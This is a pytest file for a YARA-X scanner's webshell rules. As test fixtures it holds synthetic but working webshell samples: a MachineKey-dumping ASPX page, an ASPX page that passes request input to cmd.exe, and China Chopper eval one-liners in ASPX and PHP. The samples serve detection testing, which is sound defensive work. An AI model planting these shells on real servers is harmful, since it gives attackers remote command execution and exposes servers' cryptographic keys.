"""YARA-X over file trees, and warroom's own webshell rules (warroom.hunt.matchers.yara)."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from warroom.hunt.errors import HuntError, RuleError
from warroom.hunt.finding import Finding, Level
from warroom.hunt.matchers.yara import YaraScanner, builtin_rules
from warroom.hunt.source import Problems

# Synthetic samples, written for these tests from the public descriptions of each webshell.
SPINSTALL = """<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server" language="c#" CODEPAGE="65001">
    public void Page_load()
    {
        var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral");
        var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");
        var gac = mkt.GetMethod("GetApplicationConfig", BindingFlags.Static | Flags.NonPublic);
        var cg = (MachineKeySection)gac.Invoke(null, new object[0]);
        Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey+"|"+cg.Decryption);
    }
</script>
"""
CMD_EXEC = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
"""
CHOPPER_ASPX = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'
CHOPPER_PHP = "<?php @eval($_POST['z']);?>"
COMPILED = b"MZ\x90\x00" + b"\x00" * 60 + "/_layouts/15/spinstall0.aspx".encode("utf-16-le")
BENIGN = """<%@ Page Language="C#" MasterPageFile="~/site.master" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    // Shows the configured validation algorithm, never the keys.
    var name = Request.QueryString["name"];
    Greeting.Text = "Hello " + Server.HtmlEncode(name);
    Response.Write("Process started at " + DateTime.UtcNow);
}
</script>
"""


@pytest.fixture(scope="module")
def builtin() -> YaraScanner:
    return YaraScanner.load([builtin_rules()])


def scan_samples(
    scanner: YaraScanner, tmp_path: Path, samples: dict[str, str | bytes], **options: object
) -> tuple[list[Finding], Problems]:
    for name, content in samples.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    problems = Problems()
    findings = list(scanner.scan([tmp_path], problems, **options))  # type: ignore[arg-type]
    return findings, problems


def matched(findings: list[Finding]) -> dict[str, str]:
    return {Path(f.origin.path).name: f.rule_id for f in findings}


def test_our_rules_compile(builtin: YaraScanner) -> None:
    assert YaraScanner.check([builtin_rules()]) == []
    assert builtin is not None


def test_our_rules_find_each_webshell_and_not_the_benign_page(
    builtin: YaraScanner, tmp_path: Path
) -> None:
    samples: dict[str, str | bytes] = {
        "LAYOUTS/spinstall0.aspx": SPINSTALL,
        "LAYOUTS/cmd.aspx": CMD_EXEC,
        "LAYOUTS/c.aspx": CHOPPER_ASPX,
        "www/c.php": CHOPPER_PHP,
        "Temp/App_Web_spinstall0.aspx.cdcab7d2.dll": COMPILED,
        "LAYOUTS/benign.aspx": BENIGN,
        "LAYOUTS/empty.aspx": "",
    }
    findings, problems = scan_samples(builtin, tmp_path, samples)
    assert matched(findings) == {
        "spinstall0.aspx": "webshells:ASPX_MachineKey_Dumper",
        "cmd.aspx": "webshells:ASPX_Command_Exec_Webshell",
        "c.aspx": "webshells:China_Chopper_Eval",
        "c.php": "webshells:China_Chopper_Eval",
        "App_Web_spinstall0.aspx.cdcab7d2.dll": "webshells:ToolShell_Compiled_Spinstall_Page",
    }
    assert problems.count == 0


def test_a_finding_carries_the_rule_meta(builtin: YaraScanner, tmp_path: Path) -> None:
    (finding,), _ = scan_samples(builtin, tmp_path, {"spinstall0.aspx": SPINSTALL})
    assert finding.matcher == "yara"
    assert finding.level is Level.CRITICAL
    assert finding.author == "warroom"
    assert finding.title.startswith("ASPX page that reads the ASP.NET MachineKey")
    assert "attack.t1505.003" in finding.tags
    assert finding.origin.path == str(tmp_path / "spinstall0.aspx")
    assert finding.origin.position == 0
    assert finding.detail == (
        "$key1, $key2, $out, $page1, $page2, $page3, $section1, $section2, $section3"
    )
    assert finding.fields["size"] == len(SPINSTALL.encode())
    assert finding.time is not None


def test_files_over_the_size_limit_are_skipped_and_reported(
    builtin: YaraScanner, tmp_path: Path
) -> None:
    findings, problems = scan_samples(
        builtin, tmp_path, {"big.aspx": SPINSTALL + " " * 100, "c.php": CHOPPER_PHP}, max_size=100
    )
    assert matched(findings) == {"c.php": "webshells:China_Chopper_Eval"}
    (skip,) = problems.skipped
    assert skip.path == str(tmp_path / "big.aspx")
    assert "size limit" in skip.reason


def test_the_skip_list_takes_names_and_paths(builtin: YaraScanner, tmp_path: Path) -> None:
    samples: dict[str, str | bytes] = {
        "a/spinstall0.aspx": SPINSTALL,
        "a/c.php": CHOPPER_PHP,
        "node_modules/c.aspx": CHOPPER_ASPX,
    }
    findings, problems = scan_samples(
        builtin, tmp_path, samples, skip=["*.php", "node_modules", f"{tmp_path}/a/spin*"]
    )
    assert findings == []
    assert problems.count == 0


def test_a_file_that_cannot_be_read_is_reported_and_the_scan_goes_on(
    builtin: YaraScanner, tmp_path: Path
) -> None:
    (tmp_path / "a.aspx").write_text(CHOPPER_ASPX)
    (tmp_path / "b.aspx").write_text(CHOPPER_ASPX)
    (tmp_path / "c.php").write_text(CHOPPER_PHP)
    problems = Problems()
    scan = builtin.scan([tmp_path], problems)
    first = next(scan)
    (tmp_path / "b.aspx").unlink()  # gone between listing and scanning, as on a live system
    rest = list(scan)
    assert [Path(f.origin.path).name for f in [first, *rest]] == ["a.aspx", "c.php"]
    assert [(Path(s.path).name, s.position) for s in problems.skipped] == [("b.aspx", None)]
    assert "cannot scan" in problems.skipped[0].reason


def test_missing_paths_and_special_files_are_reported(builtin: YaraScanner, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    problems = Problems()
    assert list(builtin.scan([tmp_path / "nope", tmp_path / "pipe"], problems)) == []
    assert [s.reason for s in problems.skipped] == [
        "no such file or directory",
        "not a regular file",
    ]


def test_rule_files_get_their_own_namespace(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    for name in ("one", "two"):
        (rules / f"{name}.yara").write_text('rule Same { strings: $a = "needle" condition: $a }')
    (rules / "README.md").write_text("not a rule")
    scanner = YaraScanner.load([rules])
    findings, _ = scan_samples(scanner, tmp_path / "evidence", {"x.txt": "a needle here"})
    assert sorted(f.rule_id for f in findings) == ["one:Same", "two:Same"]
    assert {f.level for f in findings} == {Level.HIGH}
    assert findings[0].title == "Same"


def test_a_bad_rule_names_file_and_line(tmp_path: Path) -> None:
    good = tmp_path / "good.yar"
    good.write_text('rule Good { strings: $a = "x" condition: $a }\n')
    bad = tmp_path / "bad.yar"
    bad.write_text('rule Bad {\n  strings: $a = "x"\n  condition: $a and\n}\n')
    worse = tmp_path / "worse.yar"
    worse.write_text("rule Worse { condition: undefined_thing }\n")
    errors = YaraScanner.check([tmp_path])
    assert [(Path(e.path).name, e.line) for e in errors] == [("bad.yar", 4), ("worse.yar", 1)]
    assert str(errors[0]).startswith(f"{bad}:4: syntax error")
    with pytest.raises(RuleError, match=r"bad\.yar:4: "):
        YaraScanner.load([tmp_path])


def test_no_rule_files_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"no \.yar or \.yara files"):
        YaraScanner.load([tmp_path])


def test_without_the_extra_it_says_how_to_install_it(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setitem(sys.modules, "yara_x", None)  # makes `import yara_x` fail
    with pytest.raises(HuntError, match=r"pip install 'warroom\[yara\]'"):
        YaraScanner.load([builtin_rules()])
